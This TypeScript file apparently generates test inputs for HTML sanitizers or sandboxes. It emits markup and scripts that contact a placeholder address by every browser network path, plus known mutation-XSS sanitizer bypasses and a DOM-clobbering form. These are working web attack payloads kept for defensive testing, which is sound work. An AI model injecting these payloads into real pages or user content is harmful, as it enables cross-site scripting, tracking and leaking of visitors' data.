import type { Home } from './corpus-file.ts'

/** Scripts that reach for a network in every way that a page has. */
export function scriptsThatCallHome(home: Home): string {
  const socket = home('websocket').replace('http:', 'ws:')
  return [
    `fetch('${home('fetch')}')`,
    `new XMLHttpRequest().open('GET','${home('xhr')}')`,
    `new WebSocket('${socket}')`,
    `new EventSource('${home('eventsource')}')`,
    `navigator.sendBeacon('${home('beacon')}','x')`,
    `new Image().src='${home('image-object')}'`,
    `new Worker('${home('worker')}')`,
    `import('${home('import')}')`,
    `new RTCPeerConnection({iceServers:[{urls:'stun:${new URL(home('rtc')).host}'}]}).createDataChannel('x')`,
    `location='${home('location')}'`,
    `window.open('${home('open')}')`,
    `document.write('<img src="${home('write')}">')`,
  ]
    .map((line) => `try{${line}}catch{}`)
    .join(';')
}

/** Markup that reaches for a network in every way that HTML has. Every address says which way it was. */
export function markupThatCallsHome(home: Home): string {
  const scripts = scriptsThatCallHome(home)
  return [
    ...['preload', 'prefetch', 'dns-prefetch', 'preconnect', 'stylesheet', 'manifest', 'icon', 'modulepreload', 'prerender'].map(
      (rel) => `<link rel="${rel}" as="image" href="${home(`link-${rel}`)}">`,
    ),
    `<base href="${home('base')}">`,
    `<meta http-equiv="refresh" content="0; url=${home('refresh')}">`,
    `<style>@import url(${home('css-import')}); @font-face{font-family:f;src:url(${home('css-font')})} body{font-family:f;background:url("${home('css-url')}");cursor:url(${home('css-cursor')}),auto;list-style-image:image-set(url(${home('css-image-set')}) 1x)} p::before{content:url(${home('css-content')})} @namespace x "${home('css-namespace')}"; div{background:u\\72l(${home('css-escaped')})}</style>`,
    `<img src="${home('img')}" srcset="${home('srcset')} 2x" lowsrc="${home('lowsrc')}" dynsrc="${home('dynsrc')}" alt="x">`,
    `<picture><source srcset="${home('picture')}"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="${scripts.replaceAll('"', '&quot;')}"></picture>`,
    `<iframe src="${home('iframe')}"></iframe><iframe srcdoc="<img src='${home('srcdoc')}'>"></iframe>`,
    `<object data="${home('object')}" codebase="${home('codebase')}"><param name="movie" value="${home('param')}"></object>`,
    `<embed src="${home('embed')}"><applet code="x" archive="${home('applet')}"></applet>`,
    `<video src="${home('video')}" poster="${home('poster')}" autoplay><source src="${home('video-source')}"><track default src="${home('track')}"></video>`,
    `<audio autoplay src="${home('audio')}"></audio>`,
    `<svg><image href="${home('svg-image')}"/><image xlink:href="${home('svg-xlink')}"/><use href="${home('svg-use')}#a"/><feImage href="${home('svg-feimage')}"/><foreignObject><img src="${home('svg-foreign')}"></foreignObject><script href="${home('svg-script')}"></script><style>*{fill:url(${home('svg-css')}#a)}</style><a xlink:href="javascript:fetch('${home('svg-a')}')"><text>x</text></a><set attributeName="href" to="${home('svg-set')}"/></svg>`,
    `<script>${scripts}</script><script src="${home('script')}"></script><script type="module" src="${home('module')}"></script><script type="importmap">{"imports":{"a":"${home('importmap')}"}}</script>`,
    `<body background="${home('body-background')}" onload="${scripts.replaceAll('"', '&quot;')}">`,
    `<table background="${home('table-background')}"><td background="${home('td-background')}">x</td></table>`,
    `<div style="background:url(${home('style-attribute')});-webkit-mask:url(${home('mask')});border-image:url(${home('border-image')}) 1">x</div>`,
    `<a href="${home('a')}" ping="${home('ping')}" target="_blank">a link</a><a href="javascript:fetch('${home('javascript-url')}')">x</a>`,
    `<a href="data:text/html,<script>fetch('${home('data-url')}')</script>">x</a>`,
    `<form action="${home('form')}" method="post"><input name="a" autofocus onfocus="this.form.submit()"><input type="image" src="${home('input-image')}"><button formaction="${home('formaction')}">x</button></form>`,
    `<details open ontoggle="fetch('${home('toggle')}')"><summary>x</summary></details><marquee onstart="fetch('${home('marquee')}')">x</marquee>`,
    `<noscript><p title="</noscript><img src=${home('noscript')} onerror=fetch('${home('noscript-error')}')>"></noscript>`,
    `<template><img src="${home('template')}"></template><portal src="${home('portal')}"></portal><frameset><frame src="${home('frame')}"></frameset>`,
    `<q cite="${home('cite')}">q</q><ins cite="${home('ins')}">i</ins><menuitem icon="${home('menuitem')}"></menuitem><bgsound src="${home('bgsound')}"><image src="${home('image-tag')}">`,
  ].join('\n')
}

/** Markup that cleaners have turned into something else than they had checked (mutation XSS), each with an address. */
export function markupThatChanges(home: Home): string {
  const bad = (way: string) => `<img src="${home(way)}" onerror="fetch('${home(`${way}-error`)}')">`
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${bad('mglyph').replaceAll('"', '&quot;')}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${bad('form')}`,
    `<math><annotation-xml encoding="text/html"><style>${bad('annotation')}</style></annotation-xml></math>`,
    `<svg></p><style><a id="</style>${bad('svg-style').replaceAll('"', "'")}">`,
    `<noembed><p id="</noembed>${bad('noembed').replaceAll('"', "'")}"></noembed>`,
    `<xmp><p title="</xmp>${bad('xmp').replaceAll('"', "'")}">`,
    `<textarea><p id="</textarea>${bad('textarea').replaceAll('"', "'")}">`,
    `<svg><desc><![CDATA[</desc><script>fetch('${home('cdata')}')</script>]]></svg>`,
    `<!--><script>fetch('${home('comment')}')</script>-->`,
    `<a id=x tabindex=1 onfocusin="fetch('${home('focusin')}')" autofocus>x</a>`,
    `<select><style></select>${bad('select')}</style>`,
    `<table><svg><style><table><title></svg>${bad('table')}</title></style>`,
    `${'<div>'.repeat(600)}<math><mi><table><mi><style>${bad('deep')}</style>`,
    `<form id="attributes"><input name="attributes"><input name="parentNode"><input name="nodeName"></form>`,
  ].join('\n')
}
